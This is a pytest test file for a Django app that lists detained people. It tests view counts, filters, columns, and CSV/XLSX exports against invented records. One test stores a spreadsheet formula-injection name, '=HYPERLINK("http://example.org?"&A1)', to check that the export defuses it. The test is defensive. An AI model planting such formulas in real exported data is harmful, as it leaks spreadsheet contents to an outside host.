"""The views of the people found: numbers that open their lists, columns, files."""

import csv
import html
import io
import re
from collections.abc import Iterator

import pytest
from django.http import HttpResponse
from django.test import Client
from openpyxl import load_workbook
from tests.register.made_up_people import record_everybody

from habeas.ledger.access import Viewer
from habeas.ledger.actions import record_claims
from habeas.ledger.rules.claims import NewClaim

from .made_up import Register
from .test_pages import text_of

pytestmark = pytest.mark.django_db

DAY = "day=2017-11-24"
FILTERS = ["", "category=journalist", "status=certainly_held", "q=Test", "country=kz&age=under_18"]
VIEWS = ["", "map/", "timeline/", "statistics/"]
# A link, anywhere on a page, of which the last thing said is a number; or a circle of the map.
NUMBER = re.compile(
    r'<a [^>]*?href="(/people/[^"]*)"[^>]*>(?:(?:(?!</a>).)*?>)?\s*([\d,]+)(?:</span>)?</a>'
)
CIRCLE = re.compile(
    r'<a (?=[^>]*href="([^"]*)")[^>]*aria-label="[^"]*: ([\d,]+) (?:person|people)"'
)


@pytest.fixture
def people(register: Register, editor: Viewer) -> None:
    record_everybody(editor)


def content(client: Client, address: str) -> str:
    answer = client.get(address)
    assert answer.status_code == 200, address
    return answer.content.decode()


def numbers(page: str) -> Iterator[tuple[str, int]]:
    for pattern in (NUMBER, CIRCLE):
        for address, number in pattern.findall(page):
            yield html.unescape(address), int(number.replace(",", ""))


def listed(client: Client, address: str) -> int:
    """How many the list of an address says that it has, and has."""
    page = content(client, address)
    said = re.search(r'data-total="(\d+)"', page)
    assert said
    count = int(said[1])
    if "/people/?" in address or address == "/people/":
        assert page.count('<a class="name"') == min(count, 50), address
    return count


@pytest.mark.parametrize("view", VIEWS)
@pytest.mark.parametrize("chosen", FILTERS)
def test_every_number_opens_the_list_that_it_counts(
    reader_at_desk: Client, people: None, view: str, chosen: str
) -> None:
    page = content(reader_at_desk, f"/people/{view}?{DAY}&{chosen}")
    found = [*numbers(page)]
    assert len(found) >= 5
    if view == "map/":
        assert "<circle" in page or "age=" in chosen
    lists: dict[str, int] = {}
    for address, number in found:
        chips = re.findall(r'aria-current="true"[^>]*href|href="([^"]*)" aria-current="true"', page)
        if address in map(html.unescape, chips):
            continue  # to choose a chosen value again is to let it go
        lists.setdefault(address, listed(reader_at_desk, address))
        assert lists[address] == number, address


def test_every_view_keeps_what_is_filtered(reader_at_desk: Client, people: None) -> None:
    asked = f"q=Test&category=journalist&category=blogger&{DAY}&columns=status%2Cplace"
    for view in VIEWS:
        page = content(reader_at_desk, f"/people/{view}?{asked}")
        assert "1 person found" in page
        for other in VIEWS:
            assert f'href="/people/{other}?{html.escape(asked)}"' in page
        for name in ("csv", "xlsx"):
            assert f'href="/people/export.{name}?{html.escape(asked)}"' in page


def test_columns_are_chosen_in_the_address(reader_at_desk: Client, people: None) -> None:
    page = content(reader_at_desk, f"/people/?{DAY}&columns=place&columns=article,assessor")
    heads = re.findall(r'<th scope="col"[^>]*>([^<]*)</th>', page)
    assert heads == ["Name", "Place of detention", "Article charged", "Assessed by"]
    row = text_of(HttpResponse(page.split("Testanna Alpha")[1].split("</tr>")[0]))
    assert row == "Атырау article 174 A made-up body"
    for each in re.findall(r'name="columns" value="(\w+)"', page):
        assert reader_at_desk.get("/people/", {"columns": each}).status_code == 200, each


@pytest.mark.parametrize(
    ("asked", "complaint"),
    [
        ("columns=secret", "is not a column"),
        ("certainly_held_on=never", "is not a day"),
        ("&".join(f"place={number}" for number in range(31)), "at most 30"),
    ],
)
def test_a_wrong_question_is_refused_by_every_view(
    reader_at_desk: Client, register: Register, asked: str, complaint: str
) -> None:
    for view in [*VIEWS, "export.csv", "export.xlsx"]:
        answer = reader_at_desk.get(f"/people/{view}?{asked}")
        assert answer.status_code == 400, view
        assert complaint in text_of(answer)


def rows_of_csv(client: Client, asked: str) -> list[list[str]]:
    answer = client.get(f"/people/export.csv?{asked}")
    assert answer.streaming
    text = b"".join(answer).decode("utf-8-sig")  # type: ignore[arg-type]
    return [*csv.reader(io.StringIO(text, newline=""))]


def rows_of_xlsx(client: Client, asked: str) -> tuple[list[tuple[object, ...]], str]:
    answer = client.get(f"/people/export.xlsx?{asked}")
    book = load_workbook(io.BytesIO(b"".join(answer)))  # type: ignore[arg-type]
    people, about = book.worksheets
    said = " ".join(str(row[0]) for row in about.iter_rows(values_only=True))
    return [*people.iter_rows(values_only=True)], said


def test_a_file_has_exactly_the_list_with_its_columns(reader_at_desk: Client, people: None) -> None:
    asked = f"category=journalist&{DAY}&columns=status,days_held,place,last_confirmed"
    about, heads, *rows = rows_of_csv(reader_at_desk, asked)
    assert heads[:3] == ["id", "Name", "Status"]
    assert [row[:2] for row in rows] == [["anna", "Testanna Alpha"], ["chara", "Testchara Gamma"]]
    assert rows[0][2:] == ["In prison, serving a sentence", "1050", "1050", "Атырау", "2017-11-01"]
    assert rows[1][2] == "Released"
    sheet, said = rows_of_xlsx(reader_at_desk, asked)
    assert [[str(cell or "") for cell in row] for row in sheet] == [heads, *rows]
    for sentences in (about[0], said):
        assert "Category: Journalist" in sentences
        assert "24 November 2017" in sentences
        assert "Rita Reader" in sentences
        assert "more than is public" in sentences


def test_a_file_is_named_by_its_day_alone(reader_at_desk: Client, people: None) -> None:
    for ending in ("csv", "xlsx"):
        answer = reader_at_desk.get(f"/people/export.{ending}?q=Testanna&{DAY}")
        expected = f'attachment; filename="people-2017-11-24.{ending}"'
        assert answer["Content-Disposition"] == expected
        assert answer["Cache-Control"] == "no-store"
        b"".join(answer)  # type: ignore[arg-type]


def test_a_name_like_a_formula_runs_in_no_spreadsheet(
    reader_at_desk: Client, register: Register, editor: Viewer
) -> None:
    name = '=HYPERLINK("http://example.org?"&A1)'
    record_claims(editor, [NewClaim("evil", "Person", "name", name)], "made up")
    assert rows_of_csv(reader_at_desk, "")[2][1] == f"'{name}"
    rows, _ = rows_of_xlsx(reader_at_desk, "")
    assert rows[1][1] == name


def test_a_list_longer_than_a_page_is_taken_away_whole(
    reader_at_desk: Client, register: Register, editor: Viewer
) -> None:
    many = [NewClaim(f"p{n}", "Person", "name", f"Testmany {n:04}") for n in range(1203)]
    record_claims(editor, many, "made up")
    rows = rows_of_csv(reader_at_desk, "columns=sources")[2:]
    assert len(rows) == 1205
    assert len({row[0] for row in rows}) == 1205
    assert [row[1] for row in rows] == sorted(row[1] for row in rows)


def test_nobody_who_is_not_signed_in_takes_a_file_away(client: Client, people: None) -> None:
    for address in ("export.csv", "export.xlsx", "map/", "timeline/", "saved/"):
        answer = client.get(f"/people/{address}")
        assert (answer.status_code, answer["Location"].split("?")[0]) == (302, "/sign-in/")
